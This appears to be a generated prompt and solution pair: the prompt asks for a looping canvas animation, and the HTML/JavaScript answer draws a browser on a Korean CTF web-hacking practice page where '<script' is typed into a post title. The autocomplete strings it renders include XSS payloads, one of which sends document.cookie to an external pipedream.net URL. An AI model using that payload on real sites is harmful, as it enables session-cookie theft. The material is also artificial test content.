
Write an HTML page with a canvas that moves like this. It is 726 by 772 pixels and loops after 5 s.

```html
<!DOCTYPE html>
<html lang="ko">
<head>
<meta charset="utf-8">
<title>Free Talking</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1c1b22; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="726" height="772"></canvas>
<script>
const LOOP = 5000, STEP = 100;
const SANS = '"Open Sans", "Noto Sans CJK KR", "Noto Sans CJK", sans-serif';
const HANGUL = '"Noto Sans CJK KR", "Noto Sans CJK", sans-serif';
const SERIF = '"Liberation Serif", serif';
const SKY = '#86bff0', BLUE = '#268eeb', WHITE = '#fefefe', INK = '#fbfbfe';
const BAR = '#1c1b22', TOOL = '#2b2a33';
const HOST = 'vextulinhub.com';

const TYPED = [[2900, '<'], [3200, '<s'], [3500, '<sd'], [3700, '<s'], [3900, '<sc'],
  [4000, '<scr'], [4200, '<scri'], [4300, '<scrip'], [4500, '<script']];
const HINTS = [
  '<script>alert(1)<\/script>',
  '<script><\/script>',
  '<script>alert(1)<script>',
  '<script> let cookie = document.cookie; let img = new Image(); img.src = "https://eot2jevtyijbm2l.m.pipedream.net/?cookie=...',
  '<script>alert(document.cookie);<\/script>',
  '<script>alert(document.cookie)<\/script>'
];

const g = document.getElementById('stage').getContext('2d');

function box(x, y, w, h, fill, r = 0, stroke) {
  g.beginPath();
  g.roundRect(x, y, w, h, r);
  if (fill) { g.fillStyle = fill; g.fill(); }
  if (stroke) { g.strokeStyle = stroke; g.lineWidth = 1; g.stroke(); }
}

function text(str, x, y, size, color = INK, align = 'left', font = SANS, weight = 400) {
  g.font = `${weight} ${size}px ${font}`;
  g.textAlign = align;
  g.fillStyle = color;
  g.fillText(str, x, y);
}

function stroke(d, color = INK, width = 1.3) {
  g.strokeStyle = color;
  g.lineWidth = width;
  g.stroke(new Path2D(d));
}

function disc(x, y, r, fill) {
  g.beginPath();
  g.arc(x, y, r, 0, 7);
  g.fillStyle = fill;
  g.fill();
}

function cross(x, y, r, width = 1.1) {
  stroke(`M${x - r} ${y - r}l${2 * r} ${2 * r}M${x + r} ${y - r}l${-2 * r} ${2 * r}`, INK, width);
}

function chevron(x, y, r, width = 1.4) {
  stroke(`M${x - r} ${y - r / 2}l${r} ${r}l${r} ${-r}`, INK, width);
}

function mix(a, b, p) { return a + (b - a) * p; }

function ease(t, from, to) {
  const p = Math.min(1, Math.max(0, (t - from) / (to - from)));
  return p * p * (3 - 2 * p);
}

function tabs(loading, wash) {
  box(0, 0, 723, 42, BAR);
  box(0, 0, 726, 1, '#4b4a50');
  stroke('M50 14.7h13a1 1 0 0 1 1 1v2.6h-15v-2.6a1 1 0 0 1 1-1zM50.5 18.3v8a2 2 0 0 0 2 2h8a2 2 0 0 0 2-2v-8M54 22.3h5');
  box(78, 1, 1, 41, '#55545f');
  box(95, 17, 8, 8, '#a51d20');
  text('VexTulin', 112, 25.5, 11.3);
  text('웹 해킹 실습장', 162.5, 25.5, 12.2, INK, 'left', HANGUL);
  cross(261, 21, 4);
  box(281, 4, 194, 34, '#52525e', 4);
  if (wash) box(281, 5, 74, 32, '#3f5f8c', 4);
  if (loading) disc(292, 21.5, 2, '#aeaeb8');
  text('Free Talking', loading ? 310 : 290, 25.5, 11);
  cross(459, 21, 4);
  stroke('M489.5 21.5h12M495.5 15.5v12', INK, 1.4);
  chevron(534, 21, 5);
  stroke('M609 21h10M653 17h9v9h-9z', INK, 1);
  cross(700, 21, 5);
}

function toolbar(loading, page) {
  box(0, 42, 723, 39, TOOL);
  box(0, 80, 723, 1, '#17161c');
  stroke('M29 61.5h-13M21.5 56l-5.5 5.5l5.5 5.5', INK, 1.5);
  stroke('M50 61.5h13M57.5 56l5.5 5.5l-5.5 5.5', '#77767f', 1.4);
  if (loading) stroke('M88 67a6.2 6.2 0 1 1 6 0M91 64v5M88.5 66.5l2.5 2.5l2.5-2.5', INK, 1.5);
  else stroke('M96.5 64a6 6 0 1 1-1-6.8M97 54.5v4.8h-4.8', INK, 1.5);

  box(141, 46, 406, 31, BAR, 4);
  stroke('M156 54.3l6 2.2v4q0 5-6 8q-6-3-6-8v-4z');
  stroke('M179.5 60.5v-3a3.3 3.3 0 0 1 6.6 0v3M178 60.5h10v7h-10z');
  stroke('M176 55l13 13', '#e22850', 1.5);

  const fade = g.createLinearGradient(464, 0, 489, 0);
  fade.addColorStop(0, '#a5a4ab');
  fade.addColorStop(1, 'rgba(165,164,171,.12)');
  g.save();
  g.beginPath();
  g.rect(196, 46, 292, 31);
  g.clip();
  text('ctf.', 199.5, 66.5, 12.7, '#a5a4ab');
  text(HOST, 216.5, 66.5, 12.7, INK);
  text(':4343/scriptPrac/' + page, 316, 66.5, 12.6, fade);
  g.restore();

  text('文', 496.5, 63, 9.5, INK, 'left', HANGUL, 700);
  text('A', 504, 68, 10.5, INK, 'left', SANS, 700);
  let star = '';
  for (let i = 0; i < 10; i++) {
    const a = -Math.PI / 2 + i * Math.PI / 5, r = i % 2 ? 3.5 : 7.4;
    star += (i ? 'L' : 'M') + (531.2 + r * Math.cos(a)) + ' ' + (62 + r * Math.sin(a));
  }
  stroke(star + 'z', INK, 1.2);

  disc(596, 61, 6, INK);
  stroke('M624 61.5a7 7 0 1 0 14 0a7 7 0 1 0-14 0');
  disc(631, 59.3, 2.5, INK);
  box(627, 62.8, 8, 3.7, INK, 1.5);
  disc(638, 54.5, 3.2, '#35a5f2');
  stroke('M660 58.5h3.5v-2a2 2 0 0 1 4 0v2h3.5v9.5h-11v-3.2h2a1.8 1.8 0 0 0 0-3.6h-2z');
  stroke('M693.5 57h11.5M693.5 61h11.5M693.5 65h11.5', INK, 1.2);
}

// Sliver of another window peeking out at the right
function backdrop() {
  box(722, 1, 4, 771, '#18181c');
  box(722.3, 1, .8, 771, '#45454c');
  const bits = [['2', 228], ['p', 265], ['s', 285], ['i', 319], ['l', 338], ['-', 356], ['l', 373], ['/', 389], ['h', 444], ['p', 501]];
  for (const [c, y] of bits) text(c, 721.5, y, 12, '#6d6d73');
}

function dateField(x, y, w) {
  box(x, y, w, 38.5, WHITE, 4);
  g.save();
  g.beginPath();
  g.rect(x, y, 33.5, 38);
  g.clip();
  text('yyyy', x + 12.5, y + 26, 16.5, '#111');
  g.restore();
  const cx = x + 37, cy = y + 12.5;
  box(cx, cy, 14, 13.5, null, 2, '#333');
  box(cx, cy, 14, 3.5, '#333', 1);
  stroke(`M${cx + 3} ${cy - 2}v3M${cx + 11} ${cy - 2}v3`, '#333', 1.4);
}

function magnifier() {
  stroke('M606.5 205l6 5.5', '#6e2530', 3.4);
  disc(601.5, 200, 6, '#33485f');
  disc(601.5, 200, 4.9, '#9bd3f4');
  stroke('M598.5 199a3.2 3.2 0 0 1 3-2.6', '#e3f4fd', 1.2);
}

function listPage() {
  box(0, 178, 76, 48, BLUE, 8);
  text('작성자', 6.5, 208, 17, INK, 'left', HANGUL);
  chevron(67, 202, 3.6, 1.3);
  box(80, 178.5, 496, 47, WHITE, 4, '#d9e3ec');
  text('Search', 89, 209, 16.3, '#7b7b7b');
  box(580, 177, 48, 48, BLUE, 4);
  magnifier();
  dateField(641, 183.5, 67);
  dateField(-.5, 226.5, 67);

  const cols = [81, 244.5, 381.5, 600.5];
  const row = (cells, y, color) =>
    cells.forEach((c, i) => text(c, cols[i], y, 19.1, color, 'center', SERIF, 700));
  box(0, 313.5, 722, 47.5, BLUE);
  box(0, 361, 722, 95.5, WHITE);
  row(['User ID', 'Title', 'Views', 'Date'], 343, INK);
  row(['1', 'test', '0', '2024-12-30'], 391, '#000');
  row(['1', '<\'">', '0', '2024-12-30'], 439, '#000');

  box(313.5, 475.5, 95.5, 38.5, BLUE);
  text('글쓰기', 361, 500.5, 16.3, INK, 'center', HANGUL);

  for (let i = 0; i < 29; i++) {
    const x = 279.5 + 28.65 * (i % 6), y = 557.2 + 28.7 * Math.floor(i / 6);
    disc(x, y, 14.3, WHITE);
    text(i + 1, x, y + 4.6, 12.4, '#000', 'center');
  }
}

function writePage(typed, caret, scrollbar) {
  box(24.5, 176.5, 672.5, 49.5, WHITE);
  box(24.5, 236, 672.5, 489.5, WHITE);
  box(24.5, 725, 672.5, 1, '#a9b4bd');
  text('내용', 361, 263, 20, '#757575', 'center', HANGUL);
  stroke('M683 724l13-13M687 724l9-9M691 724l5-5', '#555', 1);
  box(313.5, 745, 95.5, 40, BLUE);
  text('create', 361, 770, 14.4, INK, 'center');
  if (scrollbar) box(717.5, 93, 2, 660, '#5f7f9d', 1);

  if (!typed) {
    text('제목', 361, 209, 20, '#757575', 'center', HANGUL);
    return;
  }
  text(typed, 361, 209, 18.5, '#0a0a0a', 'center');
  if (caret) box(361 + g.measureText(typed).width / 2, 191, 1, 22.5, '#000');
  if (!'<script'.startsWith(typed)) return;
  box(25, 226, 672, 115, TOOL, 3, '#5b5a64');
  HINTS.forEach((h, i) => text(h, 31, 241 + 19.1 * i, 11.45));
}

function statusPanel() {
  box(226, 769.5, 461, 1.5, '#7e93a6');
  box(0, 755, 226, 17, '#23222b', [0, 4, 0, 0]);
  text('ctf.' + HOST, 3, 769.5, 10.9);
}

function arrow(x, y) {
  const p = new Path2D(`M${x} ${y}v13.2l3-2.8l2 4.6l2.2-1l-2-4.4h4.2z`);
  g.fillStyle = '#fff';
  g.fill(p);
  g.strokeStyle = '#222';
  g.lineWidth = 1;
  g.stroke(p);
}

function beam(x, y) {
  stroke(`M${x - 2.5} ${y - 6.5}h5M${x} ${y - 6.5}v13M${x - 2.5} ${y + 6.5}h5`, '#333', 1.1);
}

function draw(t) {
  const writing = t >= 1200, loading = t >= 1000 && !writing;
  box(0, 0, 726, 772, SKY);
  if (writing) {
    let typed = '';
    for (const [at, s] of TYPED) if (t >= at) typed = s;
    writePage(typed, true, t >= 1300);
  } else {
    listPage();
  }
  tabs(loading, t === 1200);
  toolbar(loading, writing ? 'notice_write.php' : 'notice_list.php');
  backdrop();
  if (loading) statusPanel();

  if (t < 1000) {
    const p = ease(t, 0, 800);
    arrow(mix(398, 384, p), mix(405, 497, p));
  } else if (writing && t < 1900) {
    const p = ease(t, 1200, 1800);
    beam(mix(384.5, 400, p), mix(501, 203, p));
  }
}

function tick(now) {
  draw(Math.floor((now % LOOP) / STEP) * STEP);
  requestAnimationFrame(tick);
}
draw(0);
requestAnimationFrame(tick);
</script>
</body>
</html>
```
